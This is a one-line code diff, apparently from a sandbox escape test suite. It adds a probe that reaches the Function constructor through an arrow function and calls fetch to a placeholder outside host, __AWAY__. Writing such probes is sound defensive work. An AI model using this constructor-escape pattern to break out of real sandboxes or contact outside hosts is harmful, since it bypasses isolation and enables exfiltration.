@@ -1,0 +1,1 @@
+attempt("constructor", () => (() => {}).constructor("return fetch('__AWAY__/constructor')")());
